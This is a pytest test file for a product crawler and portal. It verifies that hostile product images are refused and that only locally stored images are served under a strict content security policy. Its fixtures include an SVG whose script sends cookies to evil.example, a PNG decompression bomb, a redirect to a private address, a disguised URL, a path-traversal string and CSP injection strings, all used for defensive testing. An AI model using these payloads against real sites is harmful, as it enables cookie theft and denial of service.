"""Product images end to end: a real crawl keeps only real pictures, the portal serves them itself.

A shop on 127.0.0.1 declares one image per product, most of them hostile: a tracking pixel
on another host, a 1×1 pixel on its own, a PNG declaring 1.6 billion pixels, an SVG with a
script, an HTML page served as ``image/jpeg``, a redirect to a private address (another
host on 127.0.0.2, which records every request it gets), an image its robots.txt forbids,
a 6 MB one (over the 5 MB cap), three on a port where nothing listens (one failure for the
host, not one per image, and asked again by the next run), one whose server answers 503
(asked once a run, never retried) and one written to look like the shop's own host
(``http://other\\@shop/``) that Scrapy would ask of the other host. Real Scrapy crawls it through
``emplettes crawl``; the run is indexed into each backend and the real portal is queried
over HTTP and in headless Chromium.
"""

from __future__ import annotations

import io
import json
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import zlib
from pathlib import Path

import pytest
import requests
from served_portal import PORTAL_BACKENDS, served_portal
from werkzeug.serving import WSGIRequestHandler, make_server
from werkzeug.wrappers import Request, Response

pytestmark = pytest.mark.e2e

SOURCE = "boutique-images"


def _jpeg(colour: tuple[int, int, int], size=(800, 600)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", quality=90)
    return out.getvalue()


def _gif_pixel() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (1, 1), (255, 255, 255)).save(out, "GIF")
    return out.getvalue()


def _png_bomb(side: int = 40_000) -> bytes:
    """A PNG whose header declares side×side pixels: a few hundred bytes on the wire."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = zlib.compress(b"\x00" * (side * 3 + 1) * 8, 9)  # the first rows only; decoding would go on
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


GOOD = _jpeg((180, 90, 40))
OTHER = _jpeg((40, 90, 180), size=(300, 400))
EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><rect width='300' height='300'/></svg>"
)


class _Quiet(WSGIRequestHandler):
    def log_request(self, *args, **kwargs) -> None:
        pass


class Server:
    """A WSGI app on ``host``, in a thread; ``paths`` lists every path asked."""

    def __init__(self, host: str, routes: dict):
        self.routes = routes
        self.paths: list[str] = []
        self.server = make_server(host, 0, self.app, threaded=True, request_handler=_Quiet)
        self.base = f"http://{host}:{self.server.port}/"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()

    def app(self, environ, start_response):
        path = Request(environ).path
        self.paths.append(path)
        route = self.routes.get(path)
        answer = route if route is None or isinstance(route, Response) else route(self)
        if answer is None:
            answer = Response("introuvable", status=404)
        return answer(environ, start_response)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _page(shop: Server, n: int, name: str, image: str) -> Response:
    data = {
        "@context": "https://schema.org",
        "@type": "Product",
        "name": name,
        "sku": f"IMG-{n}",
        "url": f"{shop.base}p/{n}",
        "image": image,
        "offers": {"@type": "Offer", "price": f"{10 + n}.50", "priceCurrency": "EUR"},
    }
    html = (
        f'<!doctype html><html lang="fr"><head><title>{name}</title><link rel="canonical" href="{shop.base}p/{n}">'
        f'<script type="application/ld+json">{json.dumps(data, ensure_ascii=False)}</script></head>'
        f"<body><h1>{name}</h1></body></html>"
    )
    return Response(html, content_type="text/html; charset=utf-8")


def _closed_port() -> int:
    """A port of 127.0.0.1 where nothing listens: bound, then released."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="module")
def hosts():
    elsewhere = Server(
        "127.0.0.2",
        {
            "/pixel.gif": Response(_gif_pixel(), content_type="image/gif"),
            "/photo.jpg": Response(GOOD, mimetype="image/jpeg"),
        },
    )
    products: dict[int, tuple[str, str]] = {}
    routes: dict = {
        "/robots.txt": lambda s: Response(
            f"User-agent: *\nDisallow: /prive/\nSitemap: {s.base}sitemap.xml\n", content_type="text/plain"
        ),
        "/sitemap.xml": lambda s: Response(
            '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + "".join(f"<url><loc>{s.base}p/{n}</loc></url>" for n in products)
            + "</urlset>",
            content_type="application/xml",
        ),
        "/": Response(
            "<!doctype html><html lang='fr'><title>Boutique</title><h1>Boutique</h1></html>", mimetype="text/html"
        ),
        "/img/good.jpg": Response(GOOD, mimetype="image/jpeg"),
        "/img/good-copy.jpg": Response(GOOD, mimetype="image/jpeg"),
        "/img/other.jpg": Response(OTHER, mimetype="image/jpeg"),
        "/img/pixel.gif": Response(_gif_pixel(), content_type="image/gif"),
        "/img/bomb.png": Response(_png_bomb(), mimetype="image/png"),
        "/img/evil.svg": Response(EVIL_SVG, mimetype="image/svg+xml"),
        "/img/fake.jpg": Response("<html><body>pas une image</body></html>", mimetype="image/jpeg"),
        "/img/redirect.jpg": Response("", status=302, headers={"Location": f"{elsewhere.base}photo.jpg"}),
        "/prive/photo.jpg": Response(GOOD, mimetype="image/jpeg"),
        "/img/huge.jpg": Response(GOOD[:2] + b"\x00" * (6 * 1024 * 1024), mimetype="image/jpeg"),
        "/img/busy.jpg": Response("occupé", status=503),
    }
    shop = Server("127.0.0.1", routes)
    images = {
        1: ("Théière en fonte", f"{shop.base}img/good.jpg"),
        2: ("Tasse assortie", f"{shop.base}img/good.jpg"),  # the same URL as 1
        3: ("Soucoupe", f"{shop.base}img/good-copy.jpg"),  # the same picture at another URL
        4: ("Plateau", f"{shop.base}img/other.jpg"),
        5: ("Pixel espion", f"{elsewhere.base}pixel.gif"),
        6: ("Pixel maison", f"{shop.base}img/pixel.gif"),
        7: ("Bombe", f"{shop.base}img/bomb.png"),
        8: ("Dessin piégé", f"{shop.base}img/evil.svg"),
        9: ("Fausse photo", f"{shop.base}img/fake.jpg"),
        10: ("Détour privé", f"{shop.base}img/redirect.jpg"),
        11: ("Photo interdite", f"{shop.base}prive/photo.jpg"),  # robots.txt forbids it
        12: ("Photo géante", f"{shop.base}img/huge.jpg"),  # 6 MB: over the 5 MB cap
    }
    nobody = _closed_port()
    images.update({12 + k: (f"Photo perdue {k}", f"http://127.0.0.1:{nobody}/photo-{k}.jpg") for k in (1, 2, 3)})
    images[16] = ("Serveur occupé", f"{shop.base}img/busy.jpg")  # 503: asked once a run, not retried
    # Written to look like the shop's own host; asked as written, it goes to the other host.
    images[17] = ("Adresse déguisée", f"http://{elsewhere.base[7:-1]}\\@{shop.base[7:]}img/good.jpg")
    products.update(images)
    for n, (name, image) in images.items():
        routes[f"/p/{n}"] = lambda s, n=n, name=name, image=image: _page(s, n, name, image)
    yield shop, elsewhere, images
    shop.close()
    elsewhere.close()


def crawl(data_dir: Path, shop: Server) -> tuple[subprocess.CompletedProcess, list[dict]]:
    """``emplettes crawl`` of the one shop; the products of its newest run."""
    registry = data_dir.parent / "sources.yaml"
    registry.write_text(
        "sources:\n"
        f"  - id: {SOURCE}\n    name: Boutique aux images\n    url: {shop.base}\n    kind: website\n"
        '    town: Laval\n    postcode: "53000"\n    allow_private: true\n'
    )
    env = {**os.environ, "DATA_DIR": str(data_dir), "SOURCES_FILE": str(registry), "CRAWL_DELAY": "0"}
    result = subprocess.run(
        [sys.executable, "-m", "emplettes.cli", "crawl"], env=env, capture_output=True, text=True, timeout=300
    )
    newest = sorted((data_dir / "runs" / SOURCE).glob("*.jsonl"))[-1]
    records = [json.loads(line) for line in newest.read_text().splitlines()]
    return result, records


@pytest.fixture(scope="module")
def crawled(hosts, tmp_path_factory):
    shop, _elsewhere, _images = hosts
    data_dir = tmp_path_factory.mktemp("images") / "data"
    result, records = crawl(data_dir, shop)
    assert result.returncode == 0, result.stderr
    return data_dir, records


def _by_name(records: list[dict]) -> dict[str, dict]:
    return {r["name"]: r for r in records if r["type"] == "product"}


def test_only_real_pictures_are_stored_and_products_sharing_one_share_its_files(crawled, hosts):
    data_dir, records = crawled
    shop, elsewhere, images = hosts
    products = _by_name(records)
    assert set(products) == {name for name, _ in images.values()}, "a refused image never drops its product"
    keys = {name: p.get("image_key") for name, p in products.items()}
    shared = keys["Théière en fonte"]
    assert shared and keys["Tasse assortie"] == shared and keys["Soucoupe"] == shared
    assert keys["Plateau"] and keys["Plateau"] != shared
    refused = [
        "Pixel espion",
        "Pixel maison",
        "Bombe",
        "Dessin piégé",
        "Fausse photo",
        "Détour privé",
        "Photo interdite",
        "Photo géante",
        "Photo perdue 1",
        "Photo perdue 2",
        "Photo perdue 3",
        "Serveur occupé",
        "Adresse déguisée",
    ]
    assert [name for name in refused if keys[name]] == []
    assert products["Bombe"]["image"] == images[7][1], "the declared URL stays in the record"
    assert elsewhere.paths == [], "neither the pixel's host nor the redirect's private target was asked anything"
    assert "/prive/photo.jpg" not in shop.paths, "robots.txt is obeyed for images too"
    log = "".join(path.read_text() for path in (data_dir / "logs").glob("*.log"))
    reasons = {
        name: re.search(rf"image {re.escape(url)} refused: (\w+)", log).group(1)  # type: ignore[union-attr]
        for name, url in images.values()
        if name in refused
    }
    lost = sorted(reasons.pop(f"Photo perdue {k}") for k in (1, 2, 3))
    assert lost == ["connection_refused", "host_unreachable", "host_unreachable"], "the host failed once, not per image"
    assert reasons == {
        "Pixel espion": "refused_address",
        "Pixel maison": "too_small",
        "Bombe": "too_many_pixels",
        "Dessin piégé": "not_an_image",
        "Fausse photo": "not_an_image",
        "Détour privé": "refused_address",
        "Photo interdite": "ignored",
        "Photo géante": "too_large",
        "Serveur occupé": "http_503",
        "Adresse déguisée": "refused_address",
    }

    stored = sorted(p.relative_to(data_dir / "images").as_posix() for p in (data_dir / "images").rglob("*.webp"))
    assert stored == sorted(f"{k[:2]}/{k}-{size}.webp" for k in (shared, keys["Plateau"]) for size in ("m", "s"))
    from PIL import Image

    for path in (data_dir / "images").rglob("*.webp"):
        with Image.open(path) as picture:
            assert picture.format == "WEBP"
            box = 640 if path.name.endswith("-m.webp") else 320
            assert max(picture.size) <= box


def test_a_recrawl_reuses_stored_images_without_asking_for_them_again(crawled, hosts):
    data_dir, first = crawled
    shop, _elsewhere, _images = hosts
    asked = len([p for p in shop.paths if p.startswith("/img/") and p != "/img/busy.jpg"])
    assert shop.paths.count("/img/busy.jpg") == 1, "an image is not retried within a run"
    result, again = crawl(data_dir, shop)
    assert result.returncode == 0, result.stderr
    assert len([p for p in shop.paths if p.startswith("/img/") and p != "/img/busy.jpg"]) == asked, (
        "no image asked twice within a week"
    )
    assert shop.paths.count("/img/busy.jpg") == 2, "a server in trouble is asked again by the next run"
    assert {n: p.get("image_key") for n, p in _by_name(again).items()} == {
        n: p.get("image_key") for n, p in _by_name(first).items()
    }
    logs = sorted((data_dir / "logs").glob("*.log"))
    assert len(logs) == 2
    for log in logs:  # an unreachable host is not remembered as a refusal: each run asks once
        assert (
            len(re.findall(r"image http://127\.0\.0\.1:\d+/photo-\d\.jpg refused: connection_refused", log.read_text()))
            == 1
        )


def test_prepared_images_refuse_svg_bombs_and_pixels_by_reason():
    from crawler.images import NotAnImage, prepare_image

    reasons = {}
    for name, body in {
        "svg": EVIL_SVG,
        "bomb": _png_bomb(),
        "pixel": _gif_pixel(),
        "html": b"<html>pas une image</html>",
        "truncated": GOOD[: len(GOOD) // 3],
        "empty": b"",
    }.items():
        with pytest.raises(NotAnImage) as refused:
            prepare_image(body)
        reasons[name] = refused.value.reason
    assert reasons == {
        "svg": "not_an_image",
        "bomb": "too_many_pixels",
        "pixel": "too_small",
        "html": "not_an_image",
        "truncated": "corrupt",
        "empty": "empty",
    }
    key, files = prepare_image(GOOD)
    assert re.fullmatch(r"[0-9a-f]{32}", key) and set(files) == {"s", "m"}
    assert all(data[:4] == b"RIFF" and data[8:12] == b"WEBP" for data in files.values())


@pytest.fixture(scope="module", params=PORTAL_BACKENDS)
def portal(request, crawled):
    data_dir, records = crawled
    with served_portal(records, data_dir, request.param) as (base, _app, _config):
        yield base, records


def _img_sources(html: str) -> list[str]:
    found = []
    for tag in re.findall(r"<img\b[^>]*>", html):
        for attribute in ("src", "srcset"):
            value = re.search(rf'\s{attribute}="([^"]*)"', tag)
            if value:
                found += [part.strip().split(" ")[0] for part in value.group(1).split(",")]
    return found


def test_pages_show_only_the_portals_own_images_under_a_strict_policy(portal):
    base, records = portal
    key = _by_name(records)["Théière en fonte"]["image_key"]
    for path in ["/recherche?q=", "/recherche?q=th%C3%A9i%C3%A8re", f"/boutique/{SOURCE}", "/boutiques", "/"]:
        response = requests.get(base + path, timeout=10)
        assert response.status_code == 200, path
        assert "img-src 'self' data:;" in response.headers["Content-Security-Policy"], path
        sources = _img_sources(response.text)
        assert all(src.startswith("/images/") for src in sources), (path, sources)
    page = requests.get(base + "/recherche?q=", timeout=10).text
    assert f"/images/{key}-s.webp" in page and f"/images/{key}-m.webp" in page
    assert len(set(_img_sources(page))) == 4, "two stored pictures, two sizes each"


def test_stored_images_are_served_immutable_and_unknown_ones_as_a_placeholder(portal):
    base, records = portal
    key = _by_name(records)["Plateau"]["image_key"]
    image = requests.get(f"{base}/images/{key}-m.webp", timeout=10)
    assert image.status_code == 200 and image.headers["Content-Type"] == "image/webp"
    assert image.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    assert image.content[8:12] == b"WEBP"
    missing = requests.get(f"{base}/images/{'0' * 32}-s.webp", timeout=10)
    assert missing.status_code == 404 and missing.headers["Content-Type"].startswith("image/svg+xml")
    assert missing.headers["Cache-Control"] == "no-store" and "<script" not in missing.text
    for wrong in [f"{key}-xl.webp", "../../etc/passwd-s.webp", f"{key.upper()}-s.webp", f"{key}-s.png"]:
        assert requests.get(f"{base}/images/{wrong}", timeout=10).status_code == 404, wrong


@pytest.mark.browser
def test_chromium_shows_the_results_images_without_policy_violations(browser, crawled):
    from browser import Tab, wait_until_true

    data_dir, records = crawled
    with served_portal(records, data_dir, "tantivy") as (base, _app, _config):
        tab = Tab(browser, base, 1280)
        elsewhere: list[str] = []
        tab.page.on("request", lambda r: None if r.url.startswith(base) else elsewhere.append(r.url))
        tab.goto("/recherche?q=")
        tab.page.wait_for_load_state("load")
        tab.page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        wait_until_true(
            tab.page,
            "[...document.querySelectorAll('.product-image img')].every(i => i.complete && i.naturalWidth > 0)",
        )
        shown = tab.page.eval_on_selector_all(".product-image img", "imgs => imgs.map(i => i.currentSrc)")
        assert len(shown) == 4 and all(src.startswith(base + "/images/") for src in shown)
        placeholders = tab.page.eval_on_selector_all(".product-image-none", "spans => spans.length")
        assert placeholders == 13, "a refused image shows the placeholder"
        assert elsewhere == []
        tab.close()  # fails on any CSP violation reported to the console


@pytest.mark.browser
def test_a_missing_stored_image_shows_the_placeholder_in_chromium(browser, crawled, tmp_path):
    from browser import Tab, wait_until_true

    _data_dir, records = crawled
    # The run's records point at images this data directory does not have.
    with served_portal(records, tmp_path / "data", "tantivy") as (base, _app, _config):
        tab = Tab(browser, base, 1280)
        tab.goto("/recherche?q=")
        tab.page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        wait_until_true(tab.page, "[...document.querySelectorAll('.product-image img')].every(i => i.complete)")
        widths = tab.page.eval_on_selector_all(".product-image img", "imgs => imgs.map(i => i.naturalWidth)")
        assert widths and all(width > 0 for width in widths), "the placeholder picture is drawn, not a broken image"
        tab.close()


def test_the_sample_shops_of_the_demo_show_their_images(tmp_path):
    """The demo's shops (samples/) crawled as `make demo` does: their pictures are stored and shown."""
    from config import Config
    from portal import create_app
    from portal.server import serving_in_thread
    from samples import SampleSites, write_sources_yaml

    with SampleSites(port=0, shops=["fromagerie-du-donjon", "brulerie-des-halles"]) as sites:
        registry = tmp_path / "sources.yaml"
        write_sources_yaml(registry, sites.base_urls)
        env = {**os.environ, "DATA_DIR": str(tmp_path / "data"), "SOURCES_FILE": str(registry), "CRAWL_DELAY": "0"}
        for command in ("crawl", "index"):
            done = subprocess.run(
                [sys.executable, "-m", "emplettes.cli", command], env=env, capture_output=True, text=True, timeout=300
            )
            assert done.returncode == 0, done.stderr
    with serving_in_thread(create_app(Config(data_dir=tmp_path / "data"))) as base:
        page = requests.get(base + "/recherche?q=", timeout=10).text
        sources = _img_sources(page)
        assert len(sources) >= 20 and all(src.startswith("/images/") for src in sources)
        assert all(requests.get(base + src, timeout=10).status_code == 200 for src in sources[:6])


def test_a_stored_image_is_never_written_over(tmp_path):
    """Files are named by the hash of the picture: a key already stored keeps its files,
    whatever another crawl claims to be that key."""
    from crawler.images import prepare_image, store_image
    from indexer.images import image_file

    key, files = prepare_image(GOOD)
    store_image(tmp_path, key, files)
    _other_key, other_files = prepare_image(OTHER)
    store_image(tmp_path, key, other_files)
    assert {size: image_file(tmp_path, key, size).read_bytes() for size in files} == files
    assert not list(tmp_path.rglob(".tmp-*")), "no temporary file left behind"


def test_map_tiles_are_the_only_images_allowed_from_elsewhere():
    from portal.security import content_security_policy

    assert "img-src 'self' data:;" in content_security_policy("")
    assert "img-src 'self' data: https://*.tile.openstreetmap.org;" in content_security_policy(
        "https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png"
    )
    assert "img-src 'self' data:;" in content_security_policy("/tuiles/{z}/{x}/{y}.png")  # served by the portal
    for hostile in ["javascript:alert(1)", "https://a.example;script-src *", "https://a b.example/{z}"]:
        policy = content_security_policy(hostile)
        assert "img-src 'self' data:;" in policy and "script-src 'self';" in policy, hostile
